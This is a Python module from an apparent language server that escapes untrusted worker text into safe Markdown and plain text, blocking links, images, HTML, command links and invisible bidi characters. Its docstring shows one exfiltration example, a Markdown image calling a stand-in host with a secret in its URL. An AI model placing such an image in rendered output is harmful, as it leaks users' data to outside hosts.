"""The one place that turns text fxls did not write into safe Markdown and plain text.

Everything the worker returns (module and class names, ``extra_repr`` text, node targets,
argument values, dtypes, error messages, input names) comes from running the user's code, so
a model can choose it. In a hover it must never become a link, an image, raw HTML or layout:
an image ``![x](https://host/?d=<secret>)`` is fetched as soon as the hover renders.

Rules (CommonMark with GFM tables, which is what VS Code, Neovim and most clients render):

- :func:`code` puts the text in a code span whose backtick fence is one longer than the
  longest backtick run inside, padded with a space when the text starts or ends with a
  backtick or a space. Inside a code span nothing is markup: no links, images, HTML, entities
  or emphasis. Line breaks become spaces (a blank line would end the span's paragraph);
  ``|`` is escaped as ``\\|`` where the span sits in a table cell (GFM splits cells before it
  parses code spans, and reads ``\\|`` as a literal pipe there).
- :func:`word` leaves a plain identifier (ASCII letters and digits, single underscores
  between them) as it is, since it cannot form any Markdown construct; anything else becomes a
  code span.
- :func:`plain` is for surfaces that are not Markdown (code lens titles, inlay hint labels,
  diagnostic messages, code action titles): control characters become spaces.
- In every output, code spans included, Unicode format characters (bidi overrides and
  isolates, zero-width spaces and joiners, the byte order mark, tag characters: category Cf)
  are shown as escapes (``\\u202e``): they are invisible and can reorder the text shown
  around them (Trojan Source), so a model's name could otherwise read as something else.
- :func:`notice` is for ``window/showMessage`` and ``window/logMessage``: plain text in which
  no link can form (VS Code renders ``[label](command:...)`` in a notification as a link).
- Every value is clipped to :data:`MAX_VALUE` characters with an ellipsis, before it is
  escaped, and :func:`join_blocks` keeps a whole hover within :data:`MAX_MARKDOWN` characters
  by dropping whole rows or paragraphs, never by cutting through a code span.

All scanners here are single passes over the text: no regular expression, so no input can
make rendering slower than linear.
"""

from __future__ import annotations

from collections.abc import Sequence

MAX_VALUE = 2_000
"""Longest text taken from one worker string (characters, before escaping)."""
MAX_CELL = 300
"""Longest text in a table cell of a hover."""
MAX_MARKDOWN = 20_000
"""Longest hover (characters of Markdown)."""
MAX_LABEL = 200
"""Longest code lens title or inlay hint label."""
MAX_ROWS = 50
"""Most rows of one hover table."""
MAX_LISTED_VALUES = 16
"""Most values of one flattened tuple shown."""
ELLIPSIS = "…"

MAX_NOTICE = 1_000
"""Longest ``window/showMessage`` text (characters)."""
MAX_LOG_NOTICE = 8_000
"""Longest ``window/logMessage`` text (a worker that fails to start quotes its stderr)."""

FORMAT_RANGES = (
    (0x00AD, 0x00AD),
    (0x0600, 0x0605),
    (0x061C, 0x061C),
    (0x06DD, 0x06DD),
    (0x070F, 0x070F),
    (0x0890, 0x0891),
    (0x08E2, 0x08E2),
    (0x180E, 0x180E),
    (0x200B, 0x200F),
    (0x202A, 0x202E),
    (0x2060, 0x2064),
    (0x2066, 0x206F),
    (0xFEFF, 0xFEFF),
    (0xFFF9, 0xFFFB),
    (0x110BD, 0x110BD),
    (0x110CD, 0x110CD),
    (0x13430, 0x1343F),
    (0x1BCA0, 0x1BCA3),
    (0x1D173, 0x1D17A),
    (0xE0001, 0xE0001),
    (0xE0020, 0xE007F),
)
"""The Unicode format characters (category Cf, Unicode 15.1), as inclusive ranges: written
out, because scanning ``unicodedata`` for them would cost the server ~0.2 s at start."""


def _escaped(codepoint: int) -> str:
    return f"\\u{codepoint:04x}" if codepoint <= 0xFFFF else f"\\U{codepoint:08x}"


_CONTROL: dict[int, str] = {
    **{cp: _escaped(cp) for low, high in FORMAT_RANGES for cp in range(low, high + 1)},
    **{i: " " for i in (*range(0x00, 0x20), *range(0x7F, 0xA0), 0x2028, 0x2029)},
}
"""C0 and C1 controls, DEL and the line/paragraph separators -> a space; format characters
-> an escape. The one table every surface's text goes through."""
_CONTROL_KEEP_NEWLINES = {k: v for k, v in _CONTROL.items() if k not in (0x09, 0x0A)}


def clip(text: str, limit: int = MAX_VALUE) -> str:
    """``text`` cut to at most ``limit`` characters, the last one an ellipsis when cut."""
    if len(text) <= limit:
        return text
    return text[: max(limit - 1, 0)] + ELLIPSIS


def one_line(text: str) -> str:
    """Control characters and line/paragraph separators -> spaces, format characters ->
    escapes (``\\u202e``)."""
    return text.translate(_CONTROL)


def plain(text: str, limit: int = MAX_VALUE, *, newlines: bool = False) -> str:
    """Text for a plain-text surface: control characters as spaces (line breaks kept when
    ``newlines``; ``\\r`` never), format characters as escapes, at most ``limit`` characters
    (clipped before and after escaping, which only lengthens it)."""
    text = clip(text.replace("\r\n", "\n"), limit)
    return clip(text.translate(_CONTROL_KEEP_NEWLINES if newlines else _CONTROL), limit)


def notice(text: str, limit: int = MAX_NOTICE) -> str:
    """Text for a notification or a log message: :func:`plain` on one line, and no link
    syntax. Clients render a little Markdown there (VS Code: ``[label](command:...)`` and
    ``[label](https://...)`` become links), so ``]`` is never followed by ``(`` (a space goes
    between them: a CommonMark link and VS Code's link syntax both need them adjacent) and
    ``<``, ``>`` and ``\\`` are escaped with a backslash (no autolink such as
    ``<command:...>``, no HTML, and no backslash of the text's own that would undo an escape).
    Code spans stay: they make text inert, and fxls's own messages use them."""
    out: list[str] = []
    previous = ""
    for ch in clip(text, limit):
        if ch == "(" and previous == "]":
            out.append(" ")
        if ch in "<>\\":
            out.append("\\")
        out.append(ch)
        previous = ch
    return plain("".join(out), limit)  # maps characters to spaces or escapes, never drops one


def longest_run(text: str, char: str = "`") -> int:
    """Length of the longest run of ``char`` in ``text`` (one pass)."""
    best = run = 0
    for ch in text:
        if ch == char:
            run += 1
            if run > best:
                best = run
        else:
            run = 0
    return best


def code(text: str, limit: int = MAX_VALUE, *, cell: bool = False) -> str:
    """``text`` as an inline code span (empty text -> empty string).

    ``cell``: the span is inside a GFM table cell, so ``|`` is escaped.
    """
    body = clip(one_line(clip(text, limit)), limit)
    if not body:
        return ""
    if cell:
        body = body.replace("|", "\\|")
    fence = "`" * (longest_run(body) + 1)
    pad = (
        body[0] == "`"
        or body[-1] == "`"
        or (body[0] == " " and body[-1] == " " and body.strip(" ") != "")
    )
    if pad:
        body = f" {body} "
    return f"{fence}{body}{fence}"


def is_word(text: str) -> bool:
    """ASCII letters and digits, with single underscores only between them."""
    if not text or not text.isascii():
        return False
    previous = "_"
    for ch in text:
        if ch == "_":
            if previous == "_":
                return False
        elif not ch.isalnum():
            return False
        previous = ch
    return previous != "_"


def word(text: str, limit: int = MAX_VALUE, *, cell: bool = False) -> str:
    """A plain identifier as it is (``conv1``, ``call_module``, ``float32``), anything else
    as a code span."""
    if len(text) <= limit and is_word(text):
        return text
    return code(text, limit, cell=cell)


def cell(text: str, limit: int = MAX_CELL) -> str:
    """Text from the worker inside a table cell."""
    return word(text, limit, cell=True)


def join_blocks(
    blocks: Sequence[str],
    sep: str,
    limit: int,
    more: str = "*… {n} more*",
    *,
    max_count: int | None = None,
) -> str:
    """``sep.join(blocks)`` with as many whole blocks as fit in ``limit`` characters (and at
    most ``max_count`` blocks); the rest is replaced by ``more`` (``{n}``: how many were left
    out). Blocks are never cut, so a code span is never left open."""
    out: list[str] = []
    size = 0
    for index, block in enumerate(blocks):
        extra = len(block) + (len(sep) if out else 0)
        if size + extra > limit or (max_count is not None and index >= max_count):
            out.append(more.format(n=len(blocks) - index))
            break
        out.append(block)
        size += extra
    return sep.join(out)


def code_block(lines: Sequence[str], limit: int = MAX_MARKDOWN) -> str:
    """Plain lines as one fenced code block (``text``), for clients whose hover does not
    render tables or eats ``_`` inside words (Neovim's float).

    Inside a fenced block nothing is markup. Each line is made one line (control characters
    as spaces) and clipped; the fence is a backtick run longer than any inside the block, so
    no line can close it. Lines that do not fit in ``limit`` are dropped whole.
    """
    body = [clip(one_line(clip(line))) for line in lines]
    fence = "`" * max(3, max((longest_run(line) for line in body), default=0) + 1)
    budget = limit - 2 * len(fence) - 40
    kept: list[str] = []
    size = 0
    for index, line in enumerate(body):
        if size + len(line) + 1 > budget:
            kept.append(f"{ELLIPSIS} {len(body) - index} more")
            break
        kept.append(line)
        size += len(line) + 1
    return "\n".join([fence + "text", *kept, fence])


_SAFE_PUNCTUATION = frozenset(" ,.·:=+-/×…()%")


def is_safe_text(text: str) -> bool:
    """Text that cannot form any Markdown construct that matters here (no link, image, HTML,
    emphasis, code or table syntax): starts with an ASCII letter or digit and holds only
    those, spaces and ``,.·:=+-/×…()%``."""
    if not text or not (text[0].isascii() and text[0].isalnum()):
        return False
    return all((ch.isascii() and ch.isalnum()) or ch in _SAFE_PUNCTUATION for ch in text)


def text(value: str, limit: int = MAX_CELL, *, cell: bool = False) -> str:
    """Words and numbers as they are (``16.6 k (16,640)``, ``fx, built on meta``), anything
    else as a code span."""
    value = clip(one_line(clip(value, limit)), limit)
    return value if is_safe_text(value) else code(value, limit, cell=cell)
